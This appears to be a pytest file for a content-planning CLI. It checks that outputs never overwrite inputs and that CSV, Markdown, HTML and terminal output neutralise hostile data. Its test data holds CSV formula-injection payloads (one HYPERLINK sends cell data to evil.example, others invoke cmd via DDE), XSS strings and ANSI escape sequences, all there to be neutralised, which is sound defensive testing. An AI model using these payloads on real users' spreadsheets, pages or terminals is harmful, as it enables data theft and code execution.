"""Hostile outputs (issue #14): data loss through output paths, and injection through what we write.

Each case checks the exit code, the exact one-line message, and that every input is byte for byte
unchanged afterwards: an output never lands on a file the command reads (symlinks, '..', hard links,
config files), special files are written into and never replaced, the gap report folder is replaced
all or nothing, SIGTERM leaves no temporary file, CSV can be neutralised for spreadsheets, report.md
and report.html are inert, and no control character from user data reaches the terminal."""
from __future__ import annotations

import errno
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from contentplan.errors import OutputError

ROOT = Path(__file__).resolve().parent.parent
FIX = Path(__file__).parent / "fixtures" / "gaps"
GOOD_Q = b"question,volume\nwhat is churn,10\nprix crm,20\n"
SCHEME = b"""name: my-funnel
description: Three stages
stages:
  - id: tofu
    canonical: [problem, solution]
  - id: mofu
    canonical: [vendor]
  - id: bofu
    canonical: [offer, purchase, onboarding, evaluation, support, loyalty, advocacy]
"""
PERSONAS = (FIX / "personas.yaml").read_bytes()
CONTROL_CHARS = [chr(c) for c in [*range(0x20), *range(0x7f, 0xa0)] if c != 0x0a]   # all but newline


def _snapshot(*roots: Path) -> dict[str, bytes]:
    out = {}
    for root in roots:
        for p in [root, *root.rglob("*")] if root.is_dir() else [root]:
            if p.is_file() and not p.is_symlink():
                out[str(p)] = p.read_bytes()
    return out


def _run(runner, cli, args, model):
    if args[0] in ("classify", "gaps", "tag", "prospects") and "--model" not in args:
        args = [*args, "--model", str(model)]
    res = runner.invoke(cli, args)
    assert "Traceback" not in res.output, res.output
    return res


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith((".tmp", ".old")))


# ----------------------------------------------------------------------------- 1. reads and writes are distinct

def _links(d: Path) -> None:
    (d / "sub").mkdir()
    (d / "link.csv").symlink_to(d / "q.csv")
    os.link(d / "q.csv", d / "hard.csv")


DISTINCT = [
    ("classify-o-scheme-yaml", ["classify", "--scheme", "{d}/s.yaml", "-f", "csv", "-o", "{d}/s.yaml", "what is churn"],
     "Error: {d}/s.yaml: is also an input file; write the output to another file"),
    ("classify-o-symlink-to-input", ["classify", "-i", "{d}/q.csv", "-o", "{d}/link.csv"],
     "Error: {d}/link.csv: is the same file as the input {d}/q.csv; write the output to another file"),
    ("classify-o-hard-link-to-input", ["classify", "-i", "{d}/q.csv", "-o", "{d}/hard.csv"],
     "Error: {d}/hard.csv: is the same file as the input {d}/q.csv; write the output to another file"),
    ("classify-o-dotdot-input", ["classify", "-i", "{d}/q.csv", "-o", "{d}/sub/../q.csv"],
     "Error: {d}/sub/../q.csv: is the same file as the input {d}/q.csv; write the output to another file"),
    ("classify-o-file-of-model-folder", ["classify", "-f", "csv", "-o", "{model}/meta.json", "what is churn"],
     "Error: {model}/meta.json: is read as part of the input folder {model}; write the output outside that folder"),
    ("prospects-o-personas-yaml", ["prospects", "-i", "{d}/p.csv", "--personas", "{d}/personas.yaml", "-f", "csv", "-o", "{d}/personas.yaml"],
     "Error: {d}/personas.yaml: is also an input file; write the output to another file"),
    ("prospects-o-scheme-yaml", ["prospects", "-i", "{d}/p.csv", "--scheme", "{d}/s.yaml", "-f", "json", "-o", "{d}/s.yaml"],
     "Error: {d}/s.yaml: is also an input file; write the output to another file"),
    ("prospects-timeline-is-personas", ["prospects", "-i", "{d}/p.csv", "--personas", "{d}/personas.yaml", "--timeline", "{d}/personas.yaml"],
     "Error: {d}/personas.yaml: is also an input file; write the output to another file"),
    ("prospects-timeline-is-input", ["prospects", "-i", "{d}/p.csv", "--timeline", "{d}/./p.csv"],
     "Error: {d}/./p.csv: is the same file as the input {d}/p.csv; write the output to another file"),
    ("prospects-o-is-timeline", ["prospects", "-i", "{d}/p.csv", "-o", "{d}/out.json", "--timeline", "{d}/sub/../out.json"],
     "Error: {d}/sub/../out.json: is also the -o output {d}/out.json; write --timeline to another file"),
    ("prospects-o-document-of-content-folder", ["prospects", "-i", "{d}/p.csv", "--content", "{d}/docs", "-f", "csv", "-o", "{d}/docs/a.md"],
     "Error: {d}/docs/a.md: is read as part of the input folder {d}/docs; write the output outside that folder"),
    ("gaps-report-file-is-hard-link-to-questions", ["gaps", "--content", "{d}/c.csv", "--questions", "{d}/q.csv", "-o", "{d}/rep"],
     ("Error: {d}/rep: writing the report there would overwrite the input {d}/q.csv (the report writes questions.csv); "
      "write the report to another folder")),
    ("gaps-report-file-is-personas", ["gaps", "--content", "{d}/c.csv", "--questions", "{d}/q.csv", "--personas", "{d}/rep2/report.md", "-o", "{d}/rep2"],
     ("Error: {d}/rep2: writing the report there would overwrite the input {d}/rep2/report.md (the report writes report.md); "
      "write the report to another folder")),
    ("gaps-o-model-folder", ["gaps", "--content", "{d}/c.csv", "--questions", "{d}/q.csv", "-o", "{model}"],
     "Error: {model}: is also an input; write the report to another folder"),
]


@pytest.mark.parametrize("case", DISTINCT, ids=[c[0] for c in DISTINCT])
def test_output_never_lands_on_a_file_the_command_reads(case, tmp_path, runner, cli, tiny_model_dir):
    _name, argv, message = case
    d = tmp_path / "case"
    d.mkdir()
    (d / "q.csv").write_bytes(GOOD_Q)
    (d / "c.csv").write_bytes(b"title,body\nPricing,Our prices per user.\n")
    (d / "p.csv").write_bytes(b"prospect_id,timestamp,question\na,2026-01-01,what is churn\na,2026-02-01,crm price\n")
    (d / "s.yaml").write_bytes(SCHEME)
    (d / "personas.yaml").write_bytes(PERSONAS)
    (d / "docs").mkdir()
    (d / "docs" / "a.md").write_bytes(b"# Pricing\nOur prices per user.\n")
    (d / "out.json").write_bytes(b"[]\n")
    (d / "rep").mkdir()
    os.link(d / "q.csv", d / "rep" / "questions.csv")
    (d / "rep2").mkdir()
    (d / "rep2" / "report.md").write_bytes(PERSONAS)
    _links(d)
    before = _snapshot(d, tiny_model_dir)
    args = [a.replace("{d}", str(d)).replace("{model}", str(tiny_model_dir)) for a in argv]
    res = _run(runner, cli, args, tiny_model_dir)
    assert res.exit_code == 1, res.output
    assert res.output.strip() == message.replace("{d}", str(d)).replace("{model}", str(tiny_model_dir))
    assert _snapshot(d, tiny_model_dir) == before
    assert (d / "link.csv").is_symlink() and not _leftovers(d)


def test_a_file_in_an_input_folder_that_is_not_read_may_be_written(tmp_path, runner, cli, tiny_model_dir):
    d = tmp_path
    (d / "p.csv").write_bytes(b"prospect_id,timestamp,question\na,2026-01-01,what is churn\n")
    (d / "docs").mkdir()
    (d / "docs" / "a.md").write_bytes(b"# Pricing\nOur prices per user.\n")
    res = _run(runner, cli, ["prospects", "-i", str(d / "p.csv"), "--content", str(d / "docs"), "-o", str(d / "docs" / "summary.csv")],
               tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert (d / "docs" / "summary.csv").read_text(encoding="utf-8").startswith("prospect,")


# ----------------------------------------------------------------------------- 2. special files
# These tests write to /dev/null and /dev/stdout: each first checks, without writing, that the path is
# taken for what it is, so that a regression fails there instead of replacing the device (as root, it could).

def _guard(path, kind: str) -> None:
    from contentplan.io.writers import check_output_path
    assert check_output_path(path) == kind, f"{path} would not be written as {kind}"


def test_o_dash_and_dev_stdout_stream_to_stdout(tmp_path, runner, cli, tiny_model_dir):
    outs = []
    _guard("/dev/stdout", "stdout")
    for target in ("-", "/dev/stdout"):
        res = _run(runner, cli, ["classify", "-f", "csv", "-o", target, "what is churn"], tiny_model_dir)
        assert res.exit_code == 0, res.output
        outs.append(res.output)
    assert outs[0] == outs[1] and outs[0].startswith("text,")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_dev_null_and_a_symlink_to_it_are_written_into_never_replaced(tmp_path, runner, cli, tiny_model_dir):
    link = tmp_path / "null.csv"
    link.symlink_to("/dev/null")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode), "/dev/null is not a character device on this machine"
    for target in ("/dev/null", str(link)):
        _guard(target, "stream")
        for fmt in ("csv", "xlsx", "json"):
            res = _run(runner, cli, ["classify", "-f", fmt, "-o", target, "what is churn"], tiny_model_dir)
            assert res.exit_code == 0 and res.output == "", res.output
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert link.is_symlink() and os.readlink(link) == "/dev/null"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null.csv"]


@pytest.mark.parametrize("fmt,start", [("csv", b"text,"), ("xlsx", b"PK\x03\x04"), ("jsonl", b'{"text"')])
def test_fifo_is_written_into_and_stays_a_fifo(tmp_path, runner, cli, tiny_model_dir, fmt, start):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = {}

    def reader():
        with open(fifo, "rb") as fh:
            got["data"] = fh.read()

    t = threading.Thread(target=reader, daemon=True)
    t.start()
    res = _run(runner, cli, ["classify", "-f", fmt, "-o", str(fifo), "what is churn", "prix crm"], tiny_model_dir)
    t.join(30)
    assert res.exit_code == 0, res.output
    assert got["data"].startswith(start)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe"]


def test_xlsx_streams_to_a_pipe_on_stdout(runner, cli, tiny_model_dir):
    res = runner.invoke(cli, ["classify", "-f", "xlsx", "-o", "-", "what is churn", "--model", str(tiny_model_dir)])
    assert res.exit_code == 0
    assert res.stdout_bytes.startswith(b"PK\x03\x04")


def test_socket_and_stdin_are_refused(runner, cli, tiny_model_dir):
    d = Path(tempfile.mkdtemp(prefix="cp-"))   # short path: a socket path is limited to ~100 bytes
    try:
        sock_path = d / "s.sock"
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(sock_path))
            res = _run(runner, cli, ["classify", "-f", "csv", "-o", str(sock_path), "what is churn"], tiny_model_dir)
            assert res.exit_code == 1
            assert res.output.strip() == f"Error: {sock_path}: is a socket; write the output to a regular file"
            assert stat.S_ISSOCK(os.stat(sock_path).st_mode)
    finally:
        for p in d.iterdir():
            p.unlink()
        d.rmdir()
    with pytest.raises(OutputError):
        _guard("/dev/stdin", "refused")
    res = _run(runner, cli, ["classify", "-f", "csv", "-o", "/dev/stdin", "what is churn"], tiny_model_dir)
    assert res.exit_code == 1
    assert res.output.strip() == "Error: /dev/stdin: is standard input; pass -o - to write to standard output"


def test_atomic_write_never_replaces_a_special_file(tmp_path):
    from contentplan.io.writers import atomic_write
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(OutputError) as err, atomic_write(fifo) as fh:
        fh.write("x")
    assert str(err.value) == f"{fifo}: is not a regular file; it is never replaced by one"
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and sorted(p.name for p in tmp_path.iterdir()) == ["pipe"]


def test_a_symlinked_output_is_written_through(tmp_path, runner, cli, tiny_model_dir):
    real = tmp_path / "runs" / "today.csv"
    real.parent.mkdir()
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    res = _run(runner, cli, ["classify", "-o", str(link), "what is churn"], tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("text,")


# ----------------------------------------------------------------------------- 3. gap report folder: all or nothing

def _gaps_args(out: Path, *extra: str) -> list[str]:
    return ["gaps", "--content", str(FIX / "content.csv"), "--questions", str(FIX / "questions.csv"),
            "--personas", str(FIX / "personas.yaml"), "-o", str(out), "-q", *extra]


def test_a_folder_of_other_files_is_never_replaced(tmp_path, runner, cli, tiny_model_dir):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "briefs.csv").write_bytes(b"my own briefs\n")
    (mine / "notes.txt").write_bytes(b"notes\n")
    before = _snapshot(tmp_path)
    res = _run(runner, cli, _gaps_args(mine), tiny_model_dir)
    assert res.exit_code == 1
    assert res.output.strip() == (f"Error: {mine}: folder is not empty and holds no contentplan report "
                                  "(no .contentplan-report.json); write the report to a new or empty folder")
    assert _snapshot(tmp_path) == before and not _leftovers(tmp_path)


def test_rerun_replaces_the_report_and_keeps_the_users_files(tmp_path, runner, cli, tiny_model_dir):
    out = tmp_path / "rep"
    assert _run(runner, cli, _gaps_args(out), tiny_model_dir).exit_code == 0
    assert json.loads((out / ".contentplan-report.json").read_text())["generator"] == "contentplan"
    (out / "notes.md").write_bytes(b"# my notes\n")
    (out / "drafts").mkdir()
    (out / "drafts" / "brief-1.md").write_bytes(b"draft\n")
    (out / "report.md").write_bytes(b"stale\n")
    res = _run(runner, cli, _gaps_args(out, "--match-threshold", "0.9"), tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert (out / "notes.md").read_bytes() == b"# my notes\n"
    assert (out / "drafts" / "brief-1.md").read_bytes() == b"draft\n"
    assert (out / "report.md").read_text(encoding="utf-8").startswith("# Content gap report")
    assert "0.90" in (out / "report.md").read_text(encoding="utf-8")
    assert not _leftovers(tmp_path)


def test_swap_without_an_atomic_exchange_also_keeps_the_users_files(tmp_path, tiny_model_dir, monkeypatch):
    from contentplan.reports import render as reports
    from contentplan.reports.gaps import gap_report
    monkeypatch.setattr(reports, "_exchange", lambda a, b: False)   # a system without renameat2
    rep = gap_report(FIX / "content.csv", FIX / "questions.csv", model=tiny_model_dir)
    out = tmp_path / "rep"
    rep.write(out)
    (out / "notes.md").write_bytes(b"mine\n")
    (out / "gaps.csv").write_bytes(b"stale\n")
    rep.write(out)
    assert (out / "notes.md").read_bytes() == b"mine\n" and (out / "gaps.csv").read_bytes() != b"stale\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rep"]


def test_a_report_from_before_the_manifest_is_replaced(tmp_path, tiny_model_dir):
    from contentplan.reports.gaps import gap_report
    from contentplan.reports.render import REPORT_FILES
    out = tmp_path / "old"
    out.mkdir()
    for name in REPORT_FILES:
        (out / name).write_bytes(b"old\n")
    rep = gap_report(FIX / "content.csv", FIX / "questions.csv", model=tiny_model_dir)
    rep.write(out)
    assert (out / "gaps.csv").read_bytes() != b"old\n" and (out / ".contentplan-report.json").is_file()


def test_full_disk_mid_report_leaves_the_previous_report_whole(tmp_path, runner, cli, tiny_model_dir, monkeypatch):
    from contentplan.reports import render as reports
    out = tmp_path / "rep"
    assert _run(runner, cli, _gaps_args(out), tiny_model_dir).exit_code == 0
    before = _snapshot(out)
    real, calls = reports._write_file, {"n": 0}

    def full(path, data):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(path, data)

    monkeypatch.setattr(reports, "_write_file", full)
    res = _run(runner, cli, _gaps_args(out, "--match-threshold", "0.9"), tiny_model_dir)
    assert res.exit_code == 1
    assert res.output.strip() == (f"Error: {out}: cannot write the report (No space left on device); nothing was changed there; "
                                  "free some space or choose another folder")
    assert _snapshot(out) == before and not _leftovers(tmp_path)


_SLOW = """
import os, sys, time
from pathlib import Path
marker, target = sys.argv[1], sys.argv[2]
import contentplan.io.writers as w
import contentplan.reports.render as r

def stall(real):
    def slow(*a, **k):
        out = real(*a, **k)
        Path(marker).write_text("writing")
        time.sleep(60)
        return out
    return slow

if target == "csv":
    w.csv_text = stall(w.csv_text)
else:
    r.write_xlsx = stall(r.write_xlsx)
from contentplan.cli import cli
cli(sys.argv[3:], prog_name="contentplan")
"""


def _start_stalled(tmp_path: Path, target: str, args: list[str]) -> tuple[subprocess.Popen, Path]:
    marker = tmp_path / "marker"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "CONTENTPLAN_CACHE": "off", "CONTENTPLAN_NO_PROGRESS": "1"}
    proc = subprocess.Popen([sys.executable, "-c", _SLOW, str(marker), target, *args], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not marker.exists():
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            pytest.fail(f"the command never started writing: {proc.communicate()}")
        time.sleep(0.05)
    return proc, marker


def test_sigterm_during_a_file_write_leaves_no_temporary_file(tmp_path, tiny_model_dir):
    work = tmp_path / "work"
    work.mkdir()
    out = work / "out.csv"
    out.write_bytes(b"previous output\n")
    proc, _ = _start_stalled(tmp_path, "csv", ["classify", "-o", str(out), "--model", str(tiny_model_dir), "what is churn"])
    assert any(p.name.endswith(".tmp") for p in work.iterdir())   # caught mid-write
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err
    assert err.strip() == "Error: terminated (SIGTERM); no output file was written"
    assert out.read_bytes() == b"previous output\n"
    assert sorted(p.name for p in work.iterdir()) == ["out.csv"]


@pytest.mark.parametrize("sig,code", [(signal.SIGTERM, 143), (signal.SIGKILL, -9)])
def test_killed_during_the_report_leaves_the_previous_report_whole(tmp_path, tiny_model_dir, runner, cli, sig, code):
    work = tmp_path / "work"
    work.mkdir()
    out = work / "rep"
    assert _run(runner, cli, _gaps_args(out), tiny_model_dir).exit_code == 0
    (out / "notes.txt").write_bytes(b"mine\n")
    before = _snapshot(out)
    proc, _ = _start_stalled(tmp_path, "xlsx", [*_gaps_args(out, "--match-threshold", "0.9"), "--model", str(tiny_model_dir)])
    assert _leftovers(work)   # the new report is being written beside the old one
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == code, err
    assert _snapshot(out) == before
    if sig == signal.SIGTERM:
        assert err.strip() == "Error: terminated (SIGTERM); no output file was written"
        assert sorted(p.name for p in work.iterdir()) == ["rep"]


# ----------------------------------------------------------------------------- 4. CSV formula injection

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "＝1+1"]
SAFE_AS_IS = ["-3.5", "+33612345678", "what is churn", "a=b"]


def _payload_csv(tmp_path: Path) -> Path:
    p = tmp_path / "q.jsonl"
    p.write_text("".join(json.dumps({"question": t, "=cmd|x": t}) + "\n" for t in PAYLOADS + SAFE_AS_IS), encoding="utf-8")
    return p


def test_plain_csv_is_byte_faithful(tmp_path, runner, cli, tiny_model_dir):
    src = _payload_csv(tmp_path)
    out = tmp_path / "out.csv"
    assert _run(runner, cli, ["classify", "-i", str(src), "-o", str(out), "--no-explain"], tiny_model_dir).exit_code == 0
    df = pd.read_csv(out, keep_default_na=False, dtype=str)
    assert df["question"].tolist() == PAYLOADS + SAFE_AS_IS and "=cmd|x" in df.columns


def test_csv_safe_neutralises_formulas_in_cells_and_headers(tmp_path, runner, cli, tiny_model_dir):
    src = _payload_csv(tmp_path)
    before = src.read_bytes()
    out = tmp_path / "out.csv"
    res = _run(runner, cli, ["classify", "-i", str(src), "-o", str(out), "--csv-safe", "--no-explain"], tiny_model_dir)
    assert res.exit_code == 0, res.output
    df = pd.read_csv(out, keep_default_na=False, dtype=str)
    assert df["question"].tolist() == ["'" + p for p in PAYLOADS] + SAFE_AS_IS
    assert "'=cmd|x" in df.columns
    assert src.read_bytes() == before


def test_gaps_csv_safe_and_xlsx_cells_are_text(tmp_path, runner, cli, tiny_model_dir):
    q = tmp_path / "q.jsonl"
    # gaps merges the same query (case, accents, spaces folded): "\t=1+1", "\r=1+1" and "＝1+1" would be one question
    payloads = PAYLOADS[:5] + ["\r=2+2", "＝3+3"]
    q.write_text("".join(json.dumps({"question": t}) + "\n" for t in payloads + ["what is churn"]), encoding="utf-8")
    out = tmp_path / "rep"
    args = ["gaps", "--content", str(FIX / "content.csv"), "--questions", str(q), "-o", str(out), "-q", "--csv-safe"]
    assert _run(runner, cli, args, tiny_model_dir).exit_code == 0
    got = pd.read_csv(out / "questions.csv", keep_default_na=False, dtype=str)["question"].tolist()
    assert got == ["'" + p for p in payloads] + ["what is churn"]
    import openpyxl
    ws = openpyxl.load_workbook(out / "report.xlsx")["questions"]
    cells = [c for c in ws["A"][1:]]
    # the workbook keeps the text exact (openpyxl leaves the OOXML escape of CR, _x000D_, undecoded)...
    assert [c.value.replace("_x000D_", "\r") for c in cells] == payloads + ["what is churn"]
    assert {c.data_type for c in cells} == {"s"}                      # ...as text, never a formula


def test_tag_csv_safe(tmp_path, runner, cli, tiny_model_dir):
    (tmp_path / "a.md").write_text("---\ntitle: \"=HYPERLINK(\\\"http://x\\\")\"\n---\nOur prices per user.", encoding="utf-8")
    res = _run(runner, cli, ["tag", str(tmp_path / "a.md"), "-f", "csv", "--csv-safe"], tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert "'=HYPERLINK" in res.output


# ----------------------------------------------------------------------------- 5. report.md and report.html

HOSTILE_SCHEME = SCHEME.replace(b"name: my-funnel", b'name: "funnel\\n# Injected heading <img src=x onerror=alert(1)>"')
MD_PAYLOADS = ["![pixel](http://evil.example/track.png) price", "<img src=http://evil.example/x.png> cost",
               "line one\n## injected heading\n> quote", "pipe | in | cell", "[click](javascript:alert(1)) demo",
               "`code` *bold* _em_ ~~gone~~ $x$ \\ &amp;", "bell\x07 esc\x1b[31m red\r\u2028sep"]


@pytest.fixture(scope="module")
def hostile_report(tiny_model_dir, tmp_path_factory):
    from contentplan.reports.gaps import gap_report
    d = tmp_path_factory.mktemp("hostile")
    (d / "s.yaml").write_bytes(HOSTILE_SCHEME)
    pd.DataFrame({"question": MD_PAYLOADS * 2, "persona": ["cfo", "marketer"] * len(MD_PAYLOADS)}).to_csv(d / "q.csv", index=False)
    pd.DataFrame({"title": MD_PAYLOADS, "url": ["javascript:alert(1)"] * len(MD_PAYLOADS),
                  "body": ["Drones fly over roofs."] * len(MD_PAYLOADS)}).to_csv(d / "c.csv", index=False)
    personas = d / "p.yaml"
    personas.write_text(PERSONAS.decode().replace("id: cfo", 'id: "cfo"'), encoding="utf-8")
    # Since #17 a question that repeats a page's title is answered at P 0.96+: 1.0 keeps every payload unanswered (listed).
    return gap_report(d / "c.csv", d / "q.csv", personas, scheme=str(d / "s.yaml"), model=tiny_model_dir, match_threshold=1.0)


def test_report_md_is_inert(hostile_report):
    md = hostile_report.to_markdown()
    lines = md.split("\n")
    assert lines[0] == "# Content gap report (funnel # Injected heading &lt;img src=x onerror=alert(1)&gt;)"
    assert [ln for ln in lines if "injected" in ln.lower() and not ln.startswith("| ")] == [lines[0]]
    assert not any(ln.startswith(("#", ">", "<")) for ln in lines[1:] if not ln.startswith("## "))
    assert "<" not in md and not re.search(r"(?<!\\)[\[\]]", md) and not re.search(r"(?<!\\)!\\?\[", md)
    assert "\\!\\[pixel\\](http://evil.example/track.png) price" in md and "pipe \\| in \\| cell" in md
    assert "\\`code\\` \\*bold\\* \\_em\\_ \\~\\~gone\\~\\~ \\$x\\$ \\\\ &amp;amp;" in md
    assert "line one ## injected heading &gt; quote" in md
    assert not any(c in md for c in CONTROL_CHARS if c != "\n") and "\u2028" not in md
    width = None
    for ln in lines:                     # every table row has as many cells as its header
        if ln.startswith("|---"):
            width = ln.count("|") - 1
        elif ln.startswith("| ") and width is not None:
            assert len(re.findall(r"(?<!\\)\|", ln.replace("\\\\", ""))) - 1 == width, ln
        elif not ln.strip():
            width = None


def test_report_html_is_inert(hostile_report):
    html = hostile_report.to_html()
    body = html.split("</style>")[1]
    for bad in ("<img", "<script", "src=\"", "javascript:alert(1)\"", "onerror=alert(1)>"):
        assert bad not in body, bad
    # URLs become links only when they are plain http(s) addresses: a javascript: URL stays text
    assert all(re.match(r'href="https?://', body[m.start():]) for m in re.finditer("href=", body))
    assert "<title>Content gap report — funnel\n# Injected heading &lt;img src=x onerror=alert(1)&gt;</title>" in html
    assert "img-src data:" in html and "default-src 'none'" in html     # the CSP forbids remote loads anyway


# ----------------------------------------------------------------------------- 6. terminal output

ANSI = ["\x1b[2J\x1b[31mred", "\x1b]0;pwned title\x07", "over\rwrite", "csi\x9b31m", "back\x08space", "nul\x00byte"]


def _no_controls(text: str) -> bool:
    return not any(c in text for c in CONTROL_CHARS if c not in "\n")


def test_table_output_escapes_control_characters(tmp_path, runner, cli, tiny_model_dir):
    src = tmp_path / "q.jsonl"
    src.write_text("".join(json.dumps({"question": t, "note\x1b[1m": t}) + "\n" for t in ANSI), encoding="utf-8")
    res = _run(runner, cli, ["classify", "-i", str(src)], tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert _no_controls(res.output)
    assert "\\x1b[2J\\x1b[31mred" in res.output and "\\x1b]0;pwned title\\x07" in res.output and "over write" in res.output
    assert "note\\x1b[1m" in res.output


def test_gaps_summary_and_errors_escape_control_characters(tmp_path, runner, cli, tiny_model_dir):
    q = tmp_path / "q.jsonl"
    q.write_text("".join(json.dumps({"question": f"{t} price per user"}) + "\n" for t in ANSI * 2), encoding="utf-8")
    out = tmp_path / "r\x1b[31m"
    res = _run(runner, cli, ["gaps", "--content", str(FIX / "content.csv"), "--questions", str(q), "--personas", str(FIX / "personas.yaml"),
                             "-o", str(out)], tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert _no_controls(res.output) and "r\\x1b[31m" in res.output
    bad = tmp_path / "l.csv"
    bad.write_text("text,stage\nprix,\x1b]0;x\x07deci\x1b[2Json\n", encoding="utf-8")
    res = _run(runner, cli, ["evaluate", "--data", str(bad), "--model", str(tiny_model_dir)], tiny_model_dir)
    assert res.exit_code == 1 and _no_controls(res.output)
    assert "stage '\\x1b]0;x\\x07deci\\x1b[2Json' is not in scheme" in res.output


def test_tag_messages_escape_control_characters(tmp_path, runner, cli, tiny_model_dir):
    (tmp_path / "ok.md").write_text("# Pricing\nOur prices per user.", encoding="utf-8")
    (tmp_path / "bad\x1b[31m.docx").write_bytes(b"not a zip")
    res = _run(runner, cli, ["tag", str(tmp_path)], tiny_model_dir)
    assert res.exit_code == 0, res.output
    assert _no_controls(res.output) and "bad\\x1b[31m.docx" in res.output


def test_clean_line_and_clean_text():
    from contentplan.terminal import clean_line, clean_text
    assert clean_line("a\x1b[31mb\x07\r\nc\td\x9b\u2028e") == "a\\x1b[31mb\\x07  c d\\x9b e"
    assert clean_text("one\x1b\ntwo\r") == "one\\x1b\ntwo "
    assert clean_line("é 💸 ما هو") == "é 💸 ما هو"
